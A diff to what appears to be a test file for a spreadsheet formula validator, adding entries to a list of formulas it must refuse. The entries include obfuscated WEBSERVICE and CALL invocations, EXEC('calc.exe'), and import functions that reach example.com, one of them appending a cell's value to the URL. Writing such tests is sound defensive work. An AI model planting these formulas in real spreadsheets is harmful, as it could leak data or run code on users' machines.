@@ -104,6 +104,8 @@ Table1[[A],]
 Table1[A][B]
 "open
 a"b
+_xlfn._x0057_EBSERVICE(A1)
+"a_x0022_&CALL(A1)&_x0022_"
 §`,
   outside: String.raw`[1]Sheet1!A1
 SUM('[1]A b'!A1)
@@ -133,7 +135,10 @@ Sheet1!CALL("a","b")
 EXEC("calc.exe")
 EVALUATE(A1)
 GET.CELL(5,A1)
-_xlfn._xlws.PY(0,0)`,
+_xlfn._xlws.PY(0,0)
+_xlfn.IMPORTCSV("https://example.com/a.csv")
+IMPORTDATA("https://example.com/?"&A1)
+IFERROR(__xludf.DUMMYFUNCTION("IMPORTXML(""https://example.com/"",""//a"")"),1)`,
 };
 
 it.each(Object.entries(refused).flatMap(([fault, list]) => list.split('\n').map((formula) => [formula, fault] as const)))(
